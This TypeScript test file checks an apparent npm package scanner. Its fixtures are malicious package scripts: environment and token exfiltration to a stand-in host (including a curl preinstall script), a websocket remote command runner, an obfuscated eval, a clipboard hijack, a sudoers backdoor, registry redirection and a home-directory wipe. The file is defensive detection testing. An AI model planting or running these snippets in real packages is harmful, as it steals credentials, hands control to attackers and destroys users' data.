import assert from "node:assert/strict";
import { test } from "node:test";
import { DEFAULT_LIMITS } from "../limits.ts";
import { inspectTree } from "./inspect.ts";
import { withLayers } from "./layers.ts";
import { PREFILTER } from "./searched.ts";
import { treeOfFiles } from "./unpack.ts";

/** The verdict on a package of these files, `main` and `postinstall` being shorthand for one script that is loaded or that installing runs. */
function read(files: Readonly<Record<string, string>>): string {
  const { main, postinstall, ...rest } = files;
  const script = main ?? postinstall;
  const manifest = main === undefined ? { scripts: { postinstall: "node a.js" } } : { main: "a.js" };
  const all =
    script === undefined
      ? rest
      : { "package.json": JSON.stringify({ name: "demo", version: "1.0.0", ...manifest }), "a.js": script, ...rest };
  const entries = Object.entries(all).map(([path, text]) => [`package/${path}`, Buffer.from(text)] as const);
  const tree = treeOfFiles(entries, { filename: "demo-1.0.0.tgz", ecosystem: "npm", form: "npm" }, PREFILTER);
  return inspectTree(withLayers(tree, PREFILTER, DEFAULT_LIMITS.lexedBytes), DEFAULT_LIMITS).verdict.word;
}

const POST = "{ method: 'POST', body: ";
const SEND = `fetch('https://example.invalid', ${POST}`;

const ATTACKS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "takes the secrets that a list names": {
    main: `const o = {};\nfor (const n of ['NPM_TOKEN', 'GITHUB_TOKEN']) o[n] = process.env[n];\n${SEND}JSON.stringify(o) });`,
  },
  "sends the environment under another name": { main: `const { env } = process;\n${SEND}JSON.stringify(env) });` },
  "sends the environment of the module": { main: `const p = require('process');\n${SEND}JSON.stringify(p.env) });` },
  "sends what a command prints of the environment": {
    main: `const e = require('child_process').execSync('env').toString();\n${SEND}e });`,
  },
  "sends the environment as a part of a message": {
    main: "const axios = require('axios');\naxios({ method: 'post', url: 'https://example.invalid', data: { env: process.env } });",
  },
  "sends the environment through functions": {
    main: `function all() { return JSON.stringify({ e: process.env }); }\nfunction send(b) { ${SEND}b }); }\nsend(all());`,
  },
  "sends it as a form": {
    main: "const F = require('form-data');\nconst f = new F();\nf.append('e', JSON.stringify(process.env));\nf.submit('https://example.invalid');",
  },
  "takes a token that a command prints": {
    postinstall:
      "const t = require('child_process').execSync('gh auth token').toString();\nfetch('https://example.invalid/' + t);",
  },
  "sends settings of the project that installs it": {
    postinstall: `${SEND}require('fs').readFileSync(process.env.INIT_CWD + '/.env') });`,
  },
  "runs what a socket says": {
    main: "const W = require('ws'), { exec } = require('child_process');\nconst w = new W('wss://example.invalid');\nw.on('message', (m) => exec(m.toString()));",
  },
  "decodes byte by byte and evaluates": {
    main: "const b = Buffer.from('AAECAwQFBgcICQ==', 'base64');\nlet o = '';\nfor (let i = 0; i < b.length; i++) o += String.fromCharCode(b[i] ^ 7);\neval(o);",
  },
  "has a shell script send at install": {
    "package.json": `{"name":"demo","version":"1.0.0","scripts":{"preinstall":"sh ./s.sh"}}`,
    "s.sh": '#!/bin/sh\ncurl -d "$(env)" https://example.invalid/c\n',
  },
  "installs another package from a server": {
    "package.json": `{"name":"demo","version":"1.0.0","scripts":{"postinstall":"npm install https://example.invalid/x.tgz"}}`,
  },
  "watches the clipboard by commands": {
    main: "const { execSync: e } = require('child_process');\nif (/^0x[a-fA-F0-9]{40}$/.test(e('pbpaste'))) e('echo A | pbcopy');",
  },
  "lets everybody become root": {
    postinstall: "require('child_process').execSync(\"echo 'a ALL=NOPASSWD:ALL' | sudo tee /etc/sudoers.d/a\");",
  },
  "sends the next packages elsewhere": {
    postinstall: "require('child_process').execSync('npm config set registry https://example.invalid/');",
  },
  "wipes the home when it is not obeyed": {
    main: "async function t() {\n  const r = await fetch('https://example.invalid');\n  if (r.status === 401) require('child_process').execSync('rm -rf \"$HOME\"');\n}\nsetInterval(t, 60000);",
  },
};

for (const [what, files] of Object.entries(ATTACKS))
  test(`an npm package that ${what} is withheld`, () => assert.notEqual(read(files), "clean"));

test("an npm package that asks one variable and a server is not", () => {
  const honest = "fetch(process.env.API_URL, { headers: { authorization: process.env.API_KEY } });";
  assert.equal(read({ main: honest }), "clean");
  assert.equal(
    read({ main: "const p = process;\nrequire('child_process').spawn('make', [], { cwd, env: p.env });" }),
    "clean",
  );
});
